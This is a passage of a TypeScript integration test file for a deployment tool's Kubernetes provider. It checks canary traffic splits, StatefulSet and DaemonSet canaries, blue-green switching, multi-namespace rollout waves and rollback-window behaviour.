    expect(rules[2].backendRefs.map((b: { name: string; weight: number }) => [b.name, b.weight])).toEqual([['web', 90], ['web-canary', 10]])
    await run(canaryStep, { step: '1' })
    rules = getJson('httproute', 'web', ns)!.spec.rules
    expect(rules[0].backendRefs.map((b: { weight: number }) => b.weight)).toEqual([50, 50])
    expect(rules[2].backendRefs.map((b: { weight: number }) => b.weight)).toEqual([50, 50])
    const ab = await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(ab.outputs.decision).toBe('abort')
    expect(getJson('httproute', 'web', ns)!.spec).toEqual(before.spec)
  })

  it('replicas: the split is a pod ratio, reported as approximate', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app({ replicas: 4 }) })
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web }
traffic: { router: replicas }
canary: { steps: [ {weight: 25}, {weight: 50}, {weight: 100} ] }`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(getJson('deployment', 'web-canary', ns)!.spec.replicas).toBe(1)
    expect(getJson('deployment', 'web', ns)!.spec.replicas).toBe(3)
    expect(dep.logs.map((l) => l.message).join('\n')).toMatch(/1 canary \/ 3 stable pods \(about 25% of traffic; approximate/)
    await run(canaryStep, { step: 'next' })
    expect(getJson('deployment', 'web-canary', ns)!.status.availableReplicas).toBe(2)
    expect(getJson('deployment', 'web', ns)!.spec.replicas).toBe(2)
    const done = await run(canaryStep, { step: 'next' })
    expect(done.outputs.decision).toBe('promote')
    expect(getJson('deployment', 'web', ns)!.spec.replicas).toBe(4)
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
  })

  it('replicas: an abort at a high weight brings stable back to its full count, ready, before the canary\'s pods go (no capacity cliff)', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app({ replicas: 4 }) })
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web }
traffic: { router: replicas }
canary: { steps: [ {weight: 75}, {weight: 100} ] }`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    expect(getJson('deployment', 'web', ns)!.spec.replicas).toBe(1)
    const ab = await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(ab.outputs.decision).toBe('abort')
    expect(ab.logs.map((l) => l.message).join('\n')).toMatch(/Stable deployment\/web back to 4 pods \(1 ready\): waiting for them to be ready before the canary's pods go/)
    const stable = getJson('deployment', 'web', ns)!
    expect(stable.spec.replicas).toBe(4)
    expect(stable.status.readyReplicas).toBe(4)
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
  })

  it('a StatefulSet\'s canary moves its partition ordinal by ordinal from the highest; abort puts every ordinal back, promote updates them all', async () => {
    writeFiles(ws.dir, { 'k8s/db.yaml': statefulApp(4) })
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: statefulset/db }
canary: { steps: [ {weight: 25}, {weight: 50}, {weight: 100} ] }`)
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    expect(podImages('db', 4, ns)).toEqual(Array(4).fill(image('v1')))
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(dep.logs.map((l) => l.message).join('\n')).toMatch(/Partition 3 of statefulset\/db: ordinal 3 run v2 \(1 of 4 pods, about 25% of traffic; approximate, by pod count\)/)
    expect(getJson('statefulset', 'db-canary', ns)).toBeNull() // no copy, no second set of volumes
    expect(podImages('db', 4, ns)).toEqual([image('v1'), image('v1'), image('v1'), image('v2')])
    const next = await run(canaryStep, { step: 'next' })
    expect(next.failed).toBeUndefined()
    expect(podImages('db', 4, ns)).toEqual([image('v1'), image('v1'), image('v2'), image('v2')])
    expect(getJson('statefulset', 'db', ns)!.spec.updateStrategy.rollingUpdate.partition).toBe(2)
    const ab = await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(ab.failed).toBeUndefined()
    expect(ab.outputs.decision).toBe('abort')
    expect(podImages('db', 4, ns)).toEqual(Array(4).fill(image('v1')))
    expect(getJson('statefulset', 'db', ns)!.spec.updateStrategy?.rollingUpdate?.partition ?? 0).toBe(0)
    // Again, to the end: every ordinal on v2.
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    expect((await run(canaryStep, { step: 'next' })).failed).toBeUndefined()
    const done = await run(canaryStep, { step: 'next' })
    expect(done.outputs.decision).toBe('promote')
    expect(podImages('db', 4, ns)).toEqual(Array(4).fill(image('v2')))
    expect(getJson('statefulset', 'db', ns)!.spec.updateStrategy?.rollingUpdate?.partition ?? 0).toBe(0)
  })

  it('partition steps name the partition itself; a partition at or beyond the replica count is refused before anything changes', async () => {
    writeFiles(ws.dir, { 'k8s/db.yaml': statefulApp(3) })
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: statefulset/db }
canary: { steps: [ {partition: 3}, {partition: 0} ] }`)
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    const refused = await run(deploy, { image: image('v2') })
    expect(errorCode(refused)).toBe('GP-CONFIG-002')
    expect(refused.failed).toMatch(/canary.steps\[0\].partition is 3, but statefulset\/db has 3 replicas \(ordinals 0-2\): no ordinal would be updated/)
    expect(images('statefulset', 'db', ns)).toEqual([image('v1')])
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: statefulset/db }
canary: { steps: [ {partition: 2}, {partition: 1}, {partition: 0} ] }`)
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(dep.logs.map((l) => l.message).join('\n')).toMatch(/Partition 2 of statefulset\/db: ordinal 2 run v2 \(1 of 3 pods/)
    expect(podImages('db', 3, ns)).toEqual([image('v1'), image('v1'), image('v2')])
    const next = await run(canaryStep, { step: 'next' })
    expect(next.outputs.weight).toBe('67')
    expect(getJson('statefulset', 'db', ns)!.spec.updateStrategy.rollingUpdate.partition).toBe(1)
    expect(podImages('db', 3, ns)).toEqual([image('v1'), image('v2'), image('v2')])
    expect((await run(canaryStep, { step: 'next' })).outputs.decision).toBe('promote')
    expect(podImages('db', 3, ns)).toEqual(Array(3).fill(image('v2')))
  })

  it('a DaemonSet\'s canary goes node group by node group (a count, then a zone\'s nodes), with no second pod on any node; abort returns every node, promote updates the rest', async () => {
    writeFiles(ws.dir, { 'k8s/agent.yaml': daemonApp() })
    const nodes = ['kwok-node-0', 'kwok-node-1', 'kwok-node-2', 'kwok-node-3']
    const on = (v: string, which: string[]) => Object.fromEntries(nodes.map((n) => [n, image(which.includes(n) ? v : 'v1')]))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: daemonset/agent }
canary: { steps: [ {nodes: 1}, {nodes: "topology.kubernetes.io/zone=zone-b"}, {nodes: 4} ] }`)
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    expect(nodeImages(ns)).toEqual(on('v1', []))
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(dep.logs.map((l) => l.message).join('\n')).toMatch(/Nodes of daemonset\/agent: 1 of 4 run v2 \(kwok-node-0\)/)
    expect(nodeImages(ns)).toEqual(on('v2', ['kwok-node-0']))
    expect(getJson('daemonset', 'agent-canary', ns)).toBeNull() // no copy: one agent per node
    expect(getJson('daemonset', 'agent', ns)!.spec.updateStrategy.type).toBe('OnDelete')
    const next = await run(canaryStep, { step: 'next' })
    expect(next.failed).toBeUndefined()
    expect(next.outputs.weight).toBe('75')
    expect(nodeImages(ns)).toEqual(on('v2', ['kwok-node-0', 'kwok-node-2', 'kwok-node-3']))
    const ab = await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(ab.outputs.decision).toBe('abort')
    expect(nodeImages(ns)).toEqual(on('v1', []))
    const after = getJson('daemonset', 'agent', ns)!
    expect(after.spec.updateStrategy.type).toBe('RollingUpdate')
    expect(after.metadata.annotations?.['glidepath.dev/nodes-updated']).toBeUndefined()
    // Again, to the end: the last step updates every node.
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    expect((await run(canaryStep, { step: 'next' })).failed).toBeUndefined()
    const done = await run(canaryStep, { step: 'next' })
    expect(done.outputs.decision).toBe('promote')
    expect(nodeImages(ns)).toEqual(on('v2', nodes))
  })

  it('a DaemonSet whose manifests update on delete: abort and promote still replace the pods of every node', async () => {
    writeFiles(ws.dir, { 'k8s/agent.yaml': daemonApp().replace('updateStrategy: { type: RollingUpdate, rollingUpdate: { maxUnavailable: 2 } }', 'updateStrategy: { type: OnDelete }') })
    const nodes = ['kwok-node-0', 'kwok-node-1', 'kwok-node-2', 'kwok-node-3']
    const all = (v: string) => Object.fromEntries(nodes.map((n) => [n, image(v)]))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: daemonset/agent }
canary: { steps: [ {nodes: 2}, {nodes: 4} ] }`)
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    expect(Object.values(nodeImages(ns)).filter((i) => i === image('v2'))).toHaveLength(2)
    expect((await run(canaryStep, { step: 'abort', reason: 'manual' })).outputs.decision).toBe('abort')
    expect(nodeImages(ns)).toEqual(all('v1'))
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    expect((await run(canaryStep, { step: 'promote' })).outputs.decision).toBe('promote')
    expect(nodeImages(ns)).toEqual(all('v2'))
    expect(getJson('daemonset', 'agent', ns)!.metadata.annotations?.['glidepath.dev/nodes-updated']).toBeUndefined()
  })

  it('blue-green: the -green copy is verified and takes the route before the stable workload is replaced', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    config(`strategy: blue-green
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web }
traffic: { router: gateway-api, gatewayApi: { route: web } }`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const rt = await run(deploy, { image: image('v2') })
    expect(rt.failed).toBeUndefined()
    const applied = rt.logs.map((l) => l.message).filter((m) => m.startsWith('Applying'))
    expect(applied[0]).toMatch(/as -green: service\/web-green .*deployment\/web-green/)
    expect(applied[1]).toMatch(/blue-green switch/)
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    expect(getJson('deployment', 'web-green', ns)).toBeNull()
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 1 }])
  })
})

describe('kubernetes provider: waves across namespaces', () => {
  it('a mixed fleet: a release on the runner behind the local router, then a cluster target, in one rollout; the cluster failing returns the runner\'s release', async () => {
    const port = await freePort()
    ws.app('app-v1')
    ws.app('app-v2')
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, container: web, workload: deployment/web, failFast: 3s }
waves: { onFailure: rollback-all }
targets:
  - { name: edge, wave: 1, provider: local, local: { app: 'app-{{version}}', start: node server.js, health: /health, port: ${port}, minReady: 100ms } }
  - { name: eu, wave: 2 }`)
    const first = await run(deploy, { version: 'v1', image: image('v1') })
    expect(first.failed).toBeUndefined()
    expect((await get(`http://127.0.0.1:${port}/`)).version).toBe('v1')
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    // v2's image cannot be pulled in the cluster: wave 2 fails, and the runner's release returns to v1.
    const second = await run(deploy, { version: 'v2', image: MISSING_IMAGE })
    expect(second.failed).toMatch(/GP-WAVES-001.*halted in wave 2 of 2: eu failed \(GP-K8S-003/)
    expect((await get(`http://127.0.0.1:${port}/`)).version).toBe('v1')
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(JSON.parse(second.outputs.waves).targets.map((t: { name: string; status: string }) => `${t.name}:${t.status}`)).toEqual(['edge:rolled-back', 'eu:failed'])
  })

  it('rolls out namespace by namespace; a target that cannot take the release is found before any wave, and a failure in wave 2 returns wave 1 under rollback-all', async () => {
    const west = namespace('gpw')
    try {
      writeFiles(ws.dir, { 'k8s/app.yaml': app() })
      const waves = (westExtra = '') => config(`kubernetes: { manifests: k8s, container: web, workload: deployment/web }
waves: { onFailure: rollback-all }
targets:
  - { name: east, kubernetes: { namespace: ${ns} } }
  - { name: west, kubernetes: { namespace: ${west}${westExtra} } }`)
      waves()
      const first = await run(deploy, { image: image('v1') })
      expect(first.failed).toBeUndefined()
      expect(JSON.parse(first.outputs.waves).targets.map((t: { name: string; status: string }) => `${t.name}:${t.status}`)).toEqual(['east:succeeded', 'west:succeeded'])
      expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
      expect(images('deployment', 'web', west)[0]).toBe(image('v1'))
      // Each target keeps its own state in its own namespace.
      expect(JSON.parse(getJson('configmap', stateConfigMapName(environmentSlug('production/east')), ns)!.data.state).stable.version).toBe('v1')
      expect(JSON.parse(getJson('configmap', stateConfigMapName(environmentSlug('production/west')), west)!.data.state).stable.version).toBe('v1')

      const second = await run(deploy, { image: image('v2') })
      expect(second.failed).toBeUndefined()
      expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
      expect(images('deployment', 'web', west)[0]).toBe(image('v2'))

      // west's container is misnamed: found before any wave moves, nothing changes anywhere.
      waves(', container: nope')
      const misnamed = await run(deploy, { image: image('v3') })
      expect(misnamed.failed).toMatch(/GP-K8S-004.*Before any wave of v3 on production moved.*west: image .* matches no container.*Nothing was changed on any target/)
      expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
      expect(images('deployment', 'web', west)[0]).toBe(image('v2'))

      // west cannot create pods (its quota is spent), which only the rollout finds: the rollout halts
      // in wave 2 and east returns to v2.
      kubectl(['apply', '-n', west, '-f', '-'], 'apiVersion: v1\nkind: ResourceQuota\nmetadata: { name: no-more-pods }\nspec: { hard: { pods: "0" } }\n')
      waves(', failFast: 3s')
      const third = await run(deploy, { image: image('v3') })
      expect(third.failed).toMatch(/GP-WAVES-001.*halted in wave 2 of 2: west failed \(GP-K8S-003/)
      expect(third.failed).toMatch(/exceeded quota|forbidden/)
      expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
      expect(getJson('deployment', 'web', ns)!.status.availableReplicas).toBe(2)
      expect(images('deployment', 'web', west)[0]).toBe(image('v2'))
      const w = JSON.parse(third.outputs.waves)
      expect(w.targets.map((t: { name: string; status: string; serving: string }) => `${t.name}:${t.status}:${t.serving}`)).toEqual(['east:rolled-back:v2', 'west:failed:v2'])
    } finally {
      kubectl(['delete', 'namespace', west, '--wait=false'])
    }
  })
})

describe('kubernetes provider: rollback.window', () => {
  const said = (rt: Awaited<ReturnType<TestWorkspace['run']>>) => rt.logs.map((l) => l.message).join('\n')
  const ready = async (name: string, replicas: number) => {
    for (let i = 0; i < 100 && Number(getJson('deployment', name, ns)?.status?.readyReplicas ?? 0) < replicas; i++) await new Promise((r) => setTimeout(r, 200))
  }

  it('rolling: the replaced version keeps running as -previous, selected by no Service; a rollback within the window moves the Service onto it first, then rolls the Deployment back behind it and removes the copy', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, container: web, workload: deployment/web }`, '    rollback: { window: 1h }')
    expect((await run(deploy, { image: image('v1') })).failed).toBeUndefined()
    expect(getJson('deployment', 'web-previous', ns)).toBeNull()
    const second = await run(deploy, { image: image('v2') })
    expect(second.failed).toBeUndefined()
    expect(said(second)).toMatch(/v1 keeps running as deployment\/web-previous \(2 replica\(s\)\); Service web does not select it/)
    expect(second.summaries.join('\n')).toMatch(/Rollback window \| v1 keeps running until /)
    const copy = getJson('deployment', 'web-previous', ns)!
    expect(copy.spec.template.spec.containers[0].image).toBe(image('v1'))
    expect(copy.spec.template.metadata.labels).toMatchObject({ app: 'web-previous', 'glidepath.dev/track': 'previous', 'glidepath.dev/version': 'v1' })
    expect(copy.spec.selector.matchLabels).toEqual({ app: 'web-previous', 'glidepath.dev/track': 'previous' })
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web' })
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    await ready('web-previous', 2)

    const rb = await run(rollback, { reason: 'bad release' })
    expect(rb.failed).toBeUndefined()
    expect(rb.outputs).toMatchObject({ 'to-version': 'v1', 'rolled-back': 'true' })
    const log = said(rb)
    // The Service moved onto the ready copy before the Deployment was touched.
    const switched = log.search(/v1 serves again: Service web selects deployment\/web-previous \(2\/2 ready, kept by rollback.window\), switched in \d+ ms/)
    const applied = log.search(/Applying 1 object\(s\) for rollback to v1 \(traffic on deployment\/web-previous meanwhile\): deployment\/web/)
    expect(switched).toBeGreaterThanOrEqual(0)
    expect(applied).toBeGreaterThan(switched)
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web' })
    const gone = getJson('deployment', 'web-previous', ns)
    expect(gone === null || Boolean(gone.metadata.deletionTimestamp)).toBe(true)
    expect(JSON.parse(getJson('configmap', 'glidepath-production', ns)!.data.state).standby).toBeNull()
  })

  it('canary: promotion keeps the old stable behind the track label; a copy that is not ready is never given traffic (the usual rollback instead); the window ending removes it', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, container: web }
traffic: { router: gateway-api, gatewayApi: { route: web } }
canary: { steps: [ {weight: 50}, {weight: 100} ] }`, '    rollback: { window: 1h }')
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    const promoted = await run(canaryStep, { step: 'next' })
    expect(promoted.outputs.decision).toBe('promote')
    const copy = getJson('deployment', 'web-previous', ns)!
    expect(copy.spec.template.metadata.labels).toMatchObject({ app: 'web-previous', 'glidepath.dev/track': 'previous', 'glidepath.dev/version': 'v1' })
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web', 'glidepath.dev/track': 'stable' })
    // The copy cannot become ready: a rollback does not move traffic to it.
    kubectl(['-n', ns, 'set', 'image', 'deployment/web-previous', `web=${MISSING_IMAGE}`])
    const rb = await run(rollback, { reason: 'bad release' })
    expect(rb.failed).toBeUndefined()
    expect(said(rb)).toMatch(/deployment\/web-previous \(kept for the rollback window\) has \d of 2 replica\(s\) ready: traffic is not moved to a version that is not ready; rolling back the usual way/)
    expect(said(rb)).not.toMatch(/selects deployment\/web-previous/)
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web', 'glidepath.dev/track': 'stable' })
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    const unused = getJson('deployment', 'web-previous', ns)
    expect(unused === null || Boolean(unused.metadata.deletionTimestamp)).toBe(true)

    // A window that ends: the first run after it removes the copy.
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, container: web }`, '    rollback: { window: 1s }')
    expect((await run(deploy, { image: image('v3') })).failed).toBeUndefined()
    expect(getJson('deployment', 'web-previous', ns)!.spec.template.spec.containers[0].image).toBe(image('v1'))
    await new Promise((r) => setTimeout(r, 1500))
    const after = await run(deploy, { image: image('v3') })
    expect(said(after)).toMatch(/The rollback window of v1 ended at .*: it is stopped now/)
    const ended = getJson('deployment', 'web-previous', ns)
    expect(ended === null || Boolean(ended.metadata.deletionTimestamp)).toBe(true)
  })
})
